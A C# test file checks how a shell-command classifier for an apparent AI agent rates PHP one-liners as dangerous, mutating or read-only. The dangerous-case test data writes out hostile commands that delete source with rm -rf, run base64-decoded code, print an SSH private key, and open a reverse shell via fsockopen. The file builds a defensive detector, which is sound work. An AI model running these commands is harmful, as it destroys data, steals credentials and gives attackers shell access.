namespace AgentGen.Shell.Tests.Classification.Code;

public sealed class PhpCodeTests
{
    [Theory]
    [InlineData("php -r 'system(\"rm -rf src\");'")]
    [InlineData("php -r 'shell_exec(\"rm -rf src\");'")]
    [InlineData("php -r '`rm -rf src`;'")]
    [InlineData("php -r 'eval(base64_decode(\"ZWNobw==\"));'")]
    [InlineData("php -r 'array_map(\"unlink\", glob(\"*.c\"));'")]
    [InlineData("php -r 'foreach(glob(\"*.c\") as $f) unlink($f);'")]
    [InlineData("php -r '$c=\"rm -rf src\"; passthru($c);'")]
    [InlineData("php -r 'echo file_get_contents(\"/home/me/.ssh/id_rsa\");'")]
    [InlineData("php -r '$s=fsockopen(\"h\",1);exec(\"/bin/sh -i <&3 >&3 2>&3\");'")]
    public void Code_that_destroys_steals_or_hides_is_dangerous(string command) =>
        ShellClassifier.Classify(command).Risk.ShouldBe(ShellRisk.Dangerous, ShellClassifier.Classify(command).ToString());

    [Theory]
    [InlineData("php -r 'phpinfo();'")]
    [InlineData("php -r 'echo date(\"Y-m-d\");'")]
    [InlineData("php -r 'echo \"rm -rf /\";'")]
    [InlineData("php -r 'var_dump(json_decode(file_get_contents(\"a.json\")));'")]
    [InlineData("php -S localhost:8000")]
    [InlineData("php artisan migrate")]
    public void Ordinary_code_is_a_change(string command) =>
        ShellClassifier.Classify(command).Risk.ShouldBe(ShellRisk.Mutating, ShellClassifier.Classify(command).ToString());

    [Theory]
    [InlineData("php -v")]
    [InlineData("php -m")]
    [InlineData("php -i")]
    [InlineData("php --ini")]
    [InlineData("php -l a.php")]
    public void Looking_at_the_interpreter_or_through_it_is_read_only(string command) =>
        ShellClassifier.Classify(command).Risk.ShouldBe(ShellRisk.ReadOnly, ShellClassifier.Classify(command).ToString());
}
